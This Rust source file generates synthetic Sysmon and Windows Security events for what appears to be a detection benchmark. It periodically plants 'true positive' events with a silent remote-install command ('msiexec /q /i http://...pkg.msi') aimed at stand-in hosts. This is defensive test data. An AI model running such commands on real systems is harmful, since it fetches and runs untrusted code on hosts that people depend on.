//! Event generators: field layouts copied from real Sysmon and Security events (see
//! `../shared/data/real/xmlwineventlog` and `samples/`), values varied with a seeded PRNG in
//! the distribution of a [`Shape`].

use crate::shape::{parent, Shape, NEAR_MISSES};

/// SplitMix64: tiny, fast, deterministic on every platform.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x9E37_79B9_7F4A_7C15)
    }

    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    fn hex(&mut self, digits: usize) -> String {
        let v = self.next();
        let s = format!("{v:016x}");
        s[16 - digits.min(16)..].to_string()
    }

    fn hex_upper(&mut self, digits: usize) -> String {
        let mut s = String::with_capacity(digits);
        while s.len() < digits {
            s.push_str(&format!("{:016X}", self.next()));
        }
        s.truncate(digits);
        s
    }

    pub fn guid(&mut self) -> String {
        format!("{{{}-{}-{}-{}-{}}}", self.hex(8), self.hex(4), self.hex(4), self.hex(4), self.hex(12))
    }
}

/// One Windows event, rendered to XML or JSON by the caller.
pub struct WinEvent {
    pub provider: &'static str,
    pub provider_guid: &'static str,
    pub event_id: u32,
    pub version: u8,
    pub level: u8,
    pub task: u32,
    pub keywords: &'static str,
    /// Microseconds since the Unix epoch.
    pub time: i64,
    pub record_id: u64,
    pub exec_pid: u32,
    pub exec_tid: u32,
    pub channel: &'static str,
    pub computer: String,
    /// `Security/@UserID`; `None` renders `<Security/>`.
    pub user_id: Option<&'static str>,
    pub data: Vec<(&'static str, String)>,
}

pub const SYSMON: &str = "Microsoft-Windows-Sysmon";
pub const SYSMON_GUID: &str = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}";
pub const SYSMON_CHANNEL: &str = "Microsoft-Windows-Sysmon/Operational";
pub const SECURITY: &str = "Microsoft-Windows-Security-Auditing";
pub const SECURITY_GUID: &str = "{54849625-5478-4994-A5BA-3E3B0328C30D}";

/// (image path, original file name, description, command line template). `{n}` is a number,
/// `{u}` the user name, `{h}` a hex id, `{host}` an internal host name.
const PROCESSES: &[(&str, &str, &str, &str)] = &[
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "Host Process for Windows Services", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "Host Process for Windows Services", "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts"),
    ("C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "Console Window Host", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "Windows Command Processor", "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\scripts\\inventory_{n}.bat\""),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Agent\\health_{n}.ps1"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={n},i,{h} --lang=en-US --renderer-client-id={n} /prefetch:1"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "outlook.exe", "Microsoft Outlook", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", "taskhostw.exe {{{h}}}"),
    ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows® installer", "C:\\Windows\\system32\\msiexec.exe /V"),
    ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows® installer", "msiexec.exe /i \"C:\\Users\\{u}\\Downloads\\setup_{n}.msi\" /qn"),
    ("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:{n} WinX:0 WinY:0"),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    ("C:\\Windows\\System32\\reg.exe", "reg.exe", "Registry Console Tool", "reg.exe query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s"),
    ("C:\\Windows\\System32\\net.exe", "net.exe", "Net Command", "net.exe use \\\\{host}\\share{n} /persistent:no"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", "schtasks.exe /query /fo CSV /nh"),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code", "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle={n},i,{h} /prefetch:8"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\""),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "Windows Command Processor", "cmd.exe /c \"cd /d C:\\ProgramData\\Agent && run_{n}.cmd > NUL 2>&1\""),
    ("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami - displays logged on user information", "whoami /all"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows", "git.exe fetch --all --prune origin-{n}"),
    ("C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "CertUtil.exe", "certutil.exe -verify C:\\Users\\{u}\\Documents\\cert_{n}.cer"),
];

const DLLS: &[&str] = &[
    "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\KernelBase.dll",
    "C:\\Windows\\System32\\advapi32.dll",
    "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Windows\\System32\\wininet.dll",
    "C:\\Windows\\System32\\amsi.dll",
    "C:\\Windows\\System32\\clr.dll",
    "C:\\Windows\\System32\\samlib.dll",
    "C:\\Windows\\System32\\vaultcli.dll",
    "C:\\Windows\\System32\\wldp.dll",
    "C:\\Windows\\System32\\dbghelp.dll",
];

const DOMAINS: &[&str] = &[
    "www.google.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "github.com",
    "update.googleapis.com",
    "settings-win.data.microsoft.com",
    "slack.com",
    "api.github.com",
    "dc01.corp.example.com",
    "wpad.corp.example.com",
];

const REG_KEYS: &[&str] = &[
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{sid}\\\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\{n}",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignatureUpdateCount",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ZoneMap\\ProxyBypass",
    "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime",
];

const FILES: &[&str] = &[
    "C:\\Users\\{u}\\AppData\\Local\\Temp\\tmp{h}.tmp",
    "C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{h}",
    "C:\\Windows\\Prefetch\\SVCHOST.EXE-{h}.pf",
    "C:\\Users\\{u}\\Downloads\\report_{n}.xlsx",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\{h}",
];

/// The fleet: host names, user names and their SIDs.
pub struct Fleet {
    pub hosts: Vec<String>,
    pub users: Vec<String>,
    pub sids: Vec<String>,
}

impl Fleet {
    pub fn new(rng: &mut Rng, host_count: usize, user_count: usize) -> Fleet {
        let depts = ["FIN", "ENG", "HR", "OPS", "SALES", "IT"];
        let hosts = (0..host_count.max(1)).map(|i| format!("WS-{}-{:04}.corp.example.com", depts[i % depts.len()], 1000 + i)).collect();
        let first = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar"];
        let users = (0..user_count.max(1))
            .map(|i| format!("{}.{}{}", first[i % first.len()], (b'a' + (i / 12 % 26) as u8) as char, i / 312))
            .collect();
        let sids =
            (0..user_count.max(1)).map(|_| format!("S-1-5-21-4072314881-2634547730-233802997-{}", 1100 + rng.below(90000))).collect();
        Fleet { hosts, users, sids }
    }
}

/// Generates events one by one, in time order.
pub struct Generator {
    pub rng: Rng,
    fleet: Fleet,
    time: i64,
    record: u64,
    count: u64,
    /// Every `tp_every`-th event (offset by half) is a seed true positive.
    tp_every: u64,
    pub true_positives: u64,
    mix_total: u32,
    shape: Shape,
}

impl Generator {
    /// The bench corpus's generator ([`Shape::default`]).
    #[cfg(test)]
    pub fn new(seed: u64, tp_every: u64) -> Generator {
        Generator::with_shape(seed, tp_every, Shape::default())
    }

    pub fn with_shape(seed: u64, tp_every: u64, shape: Shape) -> Generator {
        let mut rng = Rng::new(seed);
        let fleet = Fleet::new(&mut rng, shape.hosts, shape.users);
        Generator {
            rng,
            fleet,
            // 2026-03-02T00:00:00Z
            time: 1_772_409_600_000_000,
            record: 1_000_000,
            count: 0,
            tp_every: tp_every.max(2),
            true_positives: 0,
            mix_total: shape.mix.iter().map(|(_, w)| w).sum(),
            shape,
        }
    }

    fn fill(&mut self, template: &str, user: &str, sid: &str) -> String {
        let mut out = String::with_capacity(template.len() + 16);
        let mut rest = template;
        while let Some(i) = rest.find('{') {
            out.push_str(&rest[..i]);
            let after = &rest[i..];
            let (rep, skip): (String, usize) = if after.starts_with("{n}") {
                (self.rng.below(self.shape.cmd_values).to_string(), 3)
            } else if after.starts_with("{u}") {
                (user.to_string(), 3)
            } else if after.starts_with("{h}") {
                (self.rng.hex(8), 3)
            } else if after.starts_with("{sid}") {
                (sid.to_string(), 5)
            } else if after.starts_with("{host}") {
                (format!("fs{:02}.corp.example.com", self.rng.below(20)), 6)
            } else if after.starts_with("{{") {
                ("{".to_string(), 2)
            } else {
                ("{".to_string(), 1)
            };
            out.push_str(&rep);
            rest = &after[skip..];
        }
        out.push_str(rest.replace("}}", "}").as_str());
        out
    }

    pub fn next_event(&mut self) -> WinEvent {
        self.count += 1;
        self.record += 1;
        self.time += 1 + self.rng.below(self.shape.max_gap_us) as i64;
        let tp = self.count % self.tp_every == self.tp_every / 2;
        let kind = if tp {
            self.true_positives += 1;
            1
        } else {
            let mut r = self.rng.below(self.mix_total as u64) as u32;
            let mut kind = 1;
            for (k, w) in &self.shape.mix {
                if r < *w {
                    kind = *k;
                    break;
                }
                r -= w;
            }
            kind
        };
        let hi = self.rng.below(self.fleet.hosts.len() as u64) as usize;
        let ui = self.rng.below(self.fleet.users.len() as u64) as usize;
        let host = self.fleet.hosts[hi].clone();
        let user = self.fleet.users[ui].clone();
        let sid = self.fleet.sids[ui].clone();
        let mut ev = WinEvent {
            provider: SYSMON,
            provider_guid: SYSMON_GUID,
            event_id: kind,
            version: 5,
            level: 4,
            task: kind,
            keywords: "0x8000000000000000",
            time: self.time,
            record_id: self.record,
            exec_pid: 3376,
            exec_tid: 4000 + self.rng.below(900) as u32,
            channel: SYSMON_CHANNEL,
            computer: host.clone(),
            user_id: Some("S-1-5-18"),
            data: Vec::with_capacity(24),
        };
        if kind >= 4000 {
            ev.provider = SECURITY;
            ev.provider_guid = SECURITY_GUID;
            ev.channel = "Security";
            ev.level = 0;
            ev.user_id = None;
            ev.exec_pid = 4;
            ev.keywords = if kind == 4625 { "0x8010000000000000" } else { "0x8020000000000000" };
        }
        let utc = utc_time(self.time);
        let short = host.split('.').next().unwrap_or("").to_ascii_uppercase();
        let domuser = format!("CORP\\{user}");
        let (img, ofn, desc, cmd_t) = *self.rng.pick(PROCESSES);
        let cmd = if tp {
            let site = self.rng.pick(&[
                "cdn-dl.example-updates.net",
                "198.51.100.23",
                "github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/src",
            ]);
            format!("msiexec.exe /q /i http://{}/pkg_{}.msi", site, self.rng.below(10_000))
        } else {
            self.fill(cmd_t, &user, &sid)
        };
        let (img, ofn, desc) =
            if tp { ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows® installer") } else { (img, ofn, desc) };
        // A near miss replaces a process creation's process (drawn only when asked for, so
        // that the default corpus stays the same).
        let near = !tp && matches!(kind, 1 | 4688) && self.shape.near_miss > 0 && self.rng.below(1000) < u64::from(self.shape.near_miss);
        let (img, ofn, desc, cmd) = if near {
            let (img, ofn, desc, template) = *self.rng.pick(NEAR_MISSES);
            (img, ofn, desc, self.fill(template, &user, &sid))
        } else {
            (img, ofn, desc, cmd)
        };
        let (pimg, pcmd) = parent(self.rng.below(self.shape.parents as u64) as usize);
        let pid = 1000 + self.rng.below(20_000);
        let guid = self.rng.guid();
        let d = &mut ev.data;
        let mut put = |k: &'static str, v: String| d.push((k, v));
        match kind {
            1 => {
                put("RuleName", "-".into());
                put("UtcTime", utc);
                put("ProcessGuid", guid);
                put("ProcessId", pid.to_string());
                put("Image", img.into());
                put("FileVersion", format!("10.0.19041.{} (WinBuild.160101.0800)", self.rng.below(4000)));
                put("Description", desc.into());
                put("Product", "Microsoft® Windows® Operating System".into());
                put("Company", "Microsoft Corporation".into());
                put("OriginalFileName", ofn.into());
                put("CommandLine", cmd);
                put("CurrentDirectory", format!("C:\\Users\\{user}\\"));
                put("User", domuser.clone());
                put("LogonGuid", self.rng.guid());
                put("LogonId", format!("0x{}", self.rng.hex(5)));
                put("TerminalSessionId", "1".into());
                put("IntegrityLevel", self.rng.pick(&["Medium", "High", "System"]).to_string());
                put(
                    "Hashes",
                    format!("MD5={},SHA256={},IMPHASH={}", self.rng.hex_upper(32), self.rng.hex_upper(64), self.rng.hex_upper(32)),
                );
                put("ParentProcessGuid", self.rng.guid());
                put("ParentProcessId", (500 + self.rng.below(9000)).to_string());
                put("ParentImage", pimg.clone());
                put("ParentCommandLine", pcmd);
                put("ParentUser", domuser);
            }
            3 => {
                put("RuleName", "Usermode".into());
                put("UtcTime", utc);
                put("ProcessGuid", guid);
                put("ProcessId", pid.to_string());
                put("Image", img.into());
                put("User", domuser);
                put("Protocol", "tcp".into());
                put("Initiated", "true".into());
                put("SourceIsIpv6", "false".into());
                put("SourceIp", format!("10.{}.{}.{}", self.rng.below(8), self.rng.below(255), 1 + self.rng.below(250)));
                put("SourceHostname", host.clone());
                put("SourcePort", (49152 + self.rng.below(16000)).to_string());
                put("SourcePortName", "-".into());
                put("DestinationIsIpv6", "false".into());
                put(
                    "DestinationIp",
                    format!("{}.{}.{}.{}", 13 + self.rng.below(200), self.rng.below(255), self.rng.below(255), 1 + self.rng.below(250)),
                );
                put("DestinationHostname", self.rng.pick(DOMAINS).to_string());
                put("DestinationPort", "443".into());
                put("DestinationPortName", "https".into());
            }
            5 => {
                ev.version = 3;
                put("RuleName", "-".into());
                put("UtcTime", utc);
                put("ProcessGuid", guid);
                put("ProcessId", pid.to_string());
                put("Image", img.into());
                put("User", domuser);
            }
            7 => {
                ev.version = 3;
                let dll = self.rng.pick(DLLS).to_string();
                let base = dll.rsplit('\\').next().unwrap_or("").to_string();
                put("RuleName", "-".into());
                put("UtcTime", utc);
                put("ProcessGuid", guid);
                put("ProcessId", pid.to_string());
                put("Image", img.into());
                put("ImageLoaded", dll);
                put("FileVersion", format!("10.0.19041.{} (WinBuild.160101.0800)", self.rng.below(4000)));
                put("Description", "Windows NT BASE API Client DLL".into());
                put("Product", "Microsoft® Windows® Operating System".into());
                put("Company", "Microsoft Corporation".into());
                put("OriginalFileName", base);
                put(
                    "Hashes",
                    format!(
                        "SHA1={},MD5={},SHA256={},IMPHASH={}",
                        self.rng.hex_upper(40),
                        self.rng.hex_upper(32),
                        self.rng.hex_upper(64),
                        self.rng.hex_upper(32)
                    ),
                );
                put("Signed", "true".into());
                put("Signature", "Microsoft Windows".into());
                put("SignatureStatus", "Valid".into());
                put("User", domuser);
            }
            10 => {
                ev.version = 3;
                put("RuleName", "-".into());
                put("UtcTime", utc);
                put("SourceProcessGUID", guid);
                put("SourceProcessId", pid.to_string());
                put("SourceThreadId", (1000 + self.rng.below(9000)).to_string());
                put("SourceImage", img.into());
                put("TargetProcessGUID", self.rng.guid());
                put("TargetProcessId", (500 + self.rng.below(9000)).to_string());
                put("TargetImage", pimg);
                put("GrantedAccess", self.rng.pick(&["0x1000", "0x1410", "0x101000", "0x1fffff"]).to_string());
                put(
                    "CallTrace",
                    format!(
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+{}|UNKNOWN({})",
                        self.rng.hex(5),
                        self.rng.hex(16)
                    ),
                );
                put("SourceUser", domuser);
                put("TargetUser", "NT AUTHORITY\\SYSTEM".into());
            }
            11 => {
                ev.version = 2;
                let f = self.rng.pick(FILES).to_string();
                put("RuleName", "-".into());
                put("UtcTime", utc.clone());
                put("ProcessGuid", guid);
                put("ProcessId", pid.to_string());
                put("Image", img.into());
                put("TargetFilename", self.fill(&f, &user, &sid));
                put("CreationUtcTime", utc);
                put("User", domuser);
            }
            12 | 13 => {
                ev.version = 2;
                let k = self.rng.pick(REG_KEYS).to_string();
                put("RuleName", "-".into());
                put("EventType", if kind == 12 { "CreateKey" } else { "SetValue" }.into());
                put("UtcTime", utc);
                put("ProcessGuid", guid);
                put("ProcessId", pid.to_string());
                put("Image", img.into());
                put("TargetObject", self.fill(&k, &user, &sid));
                if kind == 13 {
                    put("Details", format!("DWORD (0x{})", self.rng.hex(8)));
                }
                put("User", domuser);
            }
            22 => {
                let q = self.rng.pick(DOMAINS).to_string();
                put("RuleName", "-".into());
                put("UtcTime", utc);
                put("ProcessGuid", guid);
                put("ProcessId", pid.to_string());
                put("QueryName", q);
                put("QueryStatus", "0".into());
                put(
                    "QueryResults",
                    format!(
                        "type:  5 edge.example.net;::ffff:{}.{}.{}.{};",
                        13 + self.rng.below(200),
                        self.rng.below(255),
                        self.rng.below(255),
                        1 + self.rng.below(250)
                    ),
                );
                put("Image", img.into());
                put("User", domuser);
            }
            4688 => {
                ev.version = 2;
                ev.task = 13312;
                put("SubjectUserSid", sid.clone());
                put("SubjectUserName", user.clone());
                put("SubjectDomainName", "CORP".into());
                put("SubjectLogonId", format!("0x{}", self.rng.hex(5)));
                put("NewProcessId", format!("0x{pid:x}"));
                put("NewProcessName", img.into());
                put("TokenElevationType", "%%1938".into());
                put("ProcessId", format!("0x{:x}", 500 + self.rng.below(9000)));
                put("CommandLine", cmd);
                put("TargetUserSid", "NULL SID".into());
                put("TargetUserName", "-".into());
                put("TargetDomainName", "-".into());
                put("TargetLogonId", "0x0".into());
                put("ParentProcessName", pimg);
                put("MandatoryLabel", "S-1-16-8192".into());
            }
            4624 | 4625 => {
                ev.version = if kind == 4624 { 2 } else { 0 };
                ev.task = 12544;
                put("SubjectUserSid", "S-1-5-18".into());
                put("SubjectUserName", format!("{short}$"));
                put("SubjectDomainName", "CORP".into());
                put("SubjectLogonId", "0x3e7".into());
                put("TargetUserSid", if kind == 4624 { sid.clone() } else { "S-1-0-0".into() });
                put("TargetUserName", user.clone());
                put("TargetDomainName", "CORP".into());
                if kind == 4625 {
                    put("Status", "0xc000006d".into());
                    put("FailureReason", "%%2313".into());
                    put("SubStatus", "0xc000006a".into());
                } else {
                    put("TargetLogonId", format!("0x{}", self.rng.hex(6)));
                }
                put("LogonType", self.rng.pick(&["2", "3", "3", "3", "10"]).to_string());
                put("LogonProcessName", "NtLmSsp ".into());
                put("AuthenticationPackageName", "NTLM".into());
                put("WorkstationName", short.clone());
                if kind == 4624 {
                    put("LogonGuid", "{00000000-0000-0000-0000-000000000000}".into());
                }
                put("TransmittedServices", "-".into());
                put("LmPackageName", "NTLM V2".into());
                put("KeyLength", "128".into());
                put("ProcessId", "0x0".into());
                put("ProcessName", "-".into());
                put("IpAddress", format!("10.{}.{}.{}", self.rng.below(8), self.rng.below(255), 1 + self.rng.below(250)));
                put("IpPort", (49152 + self.rng.below(16000)).to_string());
                if kind == 4624 {
                    put("ImpersonationLevel", "%%1833".into());
                    put("RestrictedAdminMode", "-".into());
                    put("TargetOutboundUserName", "-".into());
                    put("TargetOutboundDomainName", "-".into());
                    put("VirtualAccount", "%%1843".into());
                    put("TargetLinkedLogonId", "0x0".into());
                    put("ElevatedToken", "%%1842".into());
                }
            }
            4634 => {
                ev.version = 0;
                ev.task = 12545;
                put("TargetUserSid", sid.clone());
                put("TargetUserName", user.clone());
                put("TargetDomainName", "CORP".into());
                put("TargetLogonId", format!("0x{}", self.rng.hex(6)));
                put("LogonType", "3".into());
            }
            _ => {
                ev.version = 0;
                ev.task = 12548;
                put("SubjectUserSid", sid.clone());
                put("SubjectUserName", user.clone());
                put("SubjectDomainName", "CORP".into());
                put("SubjectLogonId", format!("0x{}", self.rng.hex(6)));
                put(
                    "PrivilegeList",
                    "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege".into(),
                );
            }
        }
        ev
    }
}

/// `YYYY-MM-DD hh:mm:ss.mmm`, Sysmon's UtcTime.
pub fn utc_time(micros: i64) -> String {
    let (date, h, m, s, us) = civil(micros);
    format!("{date} {h:02}:{m:02}:{s:02}.{:03}", us / 1000)
}

/// `YYYY-MM-DDThh:mm:ss.fffffffZ`, TimeCreated/@SystemTime.
pub fn system_time(micros: i64) -> String {
    let (date, h, m, s, us) = civil(micros);
    format!("{date}T{h:02}:{m:02}:{s:02}.{us:06}0Z")
}

fn civil(micros: i64) -> (String, i64, i64, i64, i64) {
    let secs = micros.div_euclid(1_000_000);
    let us = micros.rem_euclid(1_000_000);
    let days = secs.div_euclid(86_400);
    let sod = secs.rem_euclid(86_400);
    let (y, mo, d) = vigil_model::calendar::civil_from_days(days);
    (format!("{y:04}-{mo:02}-{d:02}"), sod / 3600, sod % 3600 / 60, sod % 60, us)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn times() {
        assert_eq!(system_time(1_772_409_600_000_000), "2026-03-02T00:00:00.0000000Z");
        assert_eq!(utc_time(1_772_409_600_123_456), "2026-03-02 00:00:00.123");
    }

    #[test]
    fn deterministic_and_plants_true_positives() {
        let mut a = Generator::new(7, 1000);
        let mut b = Generator::new(7, 1000);
        for _ in 0..5000 {
            let (x, y) = (a.next_event(), b.next_event());
            assert_eq!(x.data, y.data);
        }
        assert_eq!(a.true_positives, 5);
    }
}
